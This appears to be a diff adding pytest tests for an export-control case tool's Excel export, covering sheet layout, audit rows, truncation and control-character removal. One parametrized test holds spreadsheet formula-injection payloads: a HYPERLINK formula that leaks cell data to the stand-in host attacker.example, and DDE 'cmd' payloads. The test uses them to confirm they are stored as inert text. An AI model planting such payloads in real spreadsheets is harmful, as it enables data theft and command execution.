@@ -1,0 +1,141 @@
+from __future__ import annotations
+
+import zipfile
+from datetime import datetime
+
+import pytest
+from helpers_cases import OFFICER, RESEARCHER, stored_result
+from openpyxl import load_workbook
+
+from exportctl.cases import CaseRepository
+from exportctl.export_excel import export_filename, safe_text, workbook_bytes, write_workbook
+
+ABSTRACT = "Fibre laser delivering 30 W continuous output at 1064 nm."
+
+
+@pytest.fixture()
+def repo(tmp_path):
+    repository = CaseRepository.open(f"sqlite:///{tmp_path / 'cases.sqlite3'}")
+    yield repository
+    repository.dispose()
+
+
+def decided_case(repo, *, title="Fibre laser", abstract=ABSTRACT):
+    case_id = repo.create_case(
+        RESEARCHER, title=title, abstract=abstract, result=stored_result(abstract)
+    )
+    case = repo.get_case(OFFICER, case_id)
+    repo.review_suggestion(
+        OFFICER, case.suggestions[0].id, status="confirmed", note="30 W", expected_version=1
+    )
+    repo.review_suggestion(
+        OFFICER, case.suggestions[1].id, status="rejected", note="no tech", expected_version=1
+    )
+    case = repo.get_case(OFFICER, case_id)
+    repo.decide(
+        OFFICER,
+        case_id,
+        decision="listed_exempt_basic_research",
+        atas_decision="not_required",
+        note="Basic research",
+        expected_version=case.version,
+    )
+    return case_id
+
+
+def export(repo, tmp_path):
+    path = tmp_path / "decisions.xlsx"
+    data = repo.export_data(OFFICER)
+    write_workbook(data, path)
+    return path, load_workbook(path)
+
+
+def rows_as_dicts(ws):
+    rows = list(ws.iter_rows(values_only=True))
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def test_export_excel_sheets_rows_and_styling(repo, tmp_path):
+    case_id = decided_case(repo)
+    path, workbook = export(repo, tmp_path)
+    assert workbook.sheetnames == ["Cases", "Suggestions", "Audit trail", "About"]
+    cases = workbook["Cases"]
+    (row,) = rows_as_dicts(cases)
+    assert row["Case ID"] == f"C-{case_id:05d}"
+    assert row["Title"] == "Fibre laser"
+    assert row["Researcher"] == "rosa"
+    assert row["Decision"] == "Listed — exempt (basic scientific research)"
+    assert row["Entries confirmed"] == "6A005.a"
+    assert row["ATAS decision"] == "ATAS not required"
+    assert row["Officer"] == "olu"
+    assert row["List version"] == "uk-consolidated/2025-12-16"
+    assert isinstance(row["Decided (UTC)"], datetime)
+    decided_cell = cases.cell(row=2, column=[c.value for c in cases[1]].index("Decided (UTC)") + 1)
+    assert decided_cell.is_date
+    assert cases.freeze_panes == "A2"
+    assert cases.auto_filter.ref.startswith("A1:")
+    assert cases["A1"].font.bold
+    assert cases.column_dimensions["C"].width >= 20
+
+    suggestions = rows_as_dicts(workbook["Suggestions"])
+    assert [(s["Code"], s["Review"], s["Note"]) for s in suggestions] == [
+        ("6A005.a", "Confirmed", "30 W"),
+        ("6E002", "Rejected", "no tech"),
+    ]
+    assert suggestions[0]["Score"] == pytest.approx(1.0)
+    assert "'Fibre laser' ~ 'fibre laser'" in suggestions[0]["Evidence"]
+    assert "What is the output power?" in suggestions[0]["Thresholds"]
+
+    audit = rows_as_dicts(workbook["Audit trail"])
+    assert [a["Action"] for a in audit] == [
+        "case_submitted",
+        "suggestion_confirmed",
+        "suggestion_rejected",
+        "case_decided",
+        "decisions_exported",
+    ]
+    assert all(isinstance(a["When (UTC)"], datetime) for a in audit)
+    assert audit[1]["Who"] == "olu" and audit[1]["List version"] == "uk-consolidated/2025-12-16"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+    ],
+)
+def test_export_excel_formula_injection_is_written_as_text(repo, tmp_path, text):
+    decided_case(repo, title=text, abstract=text)
+    path, workbook = export(repo, tmp_path)
+    cases = workbook["Cases"]
+    headers = [c.value for c in cases[1]]
+    for header in ("Title", "Abstract"):
+        cell = cases.cell(row=2, column=headers.index(header) + 1)
+        assert cell.data_type == "s"
+        assert cell.quotePrefix
+    abstract = cases.cell(row=2, column=headers.index("Abstract") + 1).value
+    assert abstract == text
+    with zipfile.ZipFile(path) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/"):
+                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+
+
+def test_export_excel_removes_control_characters_and_truncates(repo, tmp_path):
+    decided_case(repo, title="Bell\x07 title", abstract="x" * 40_000)
+    _, workbook = export(repo, tmp_path)
+    (row,) = rows_as_dicts(workbook["Cases"])
+    assert row["Title"] == "Bell title"
+    assert len(row["Abstract"]) == 32_767 and row["Abstract"].endswith("[truncated]")
+    assert safe_text("ok\x00") == "ok"
+
+
+def test_export_excel_empty_store_gives_headers_only(repo):
+    data = repo.export_data(OFFICER)
+    workbook = load_workbook(__import__("io").BytesIO(workbook_bytes(data)))
+    assert workbook["Cases"].max_row == 1
+    assert export_filename(data).startswith("exportctl-decisions-")
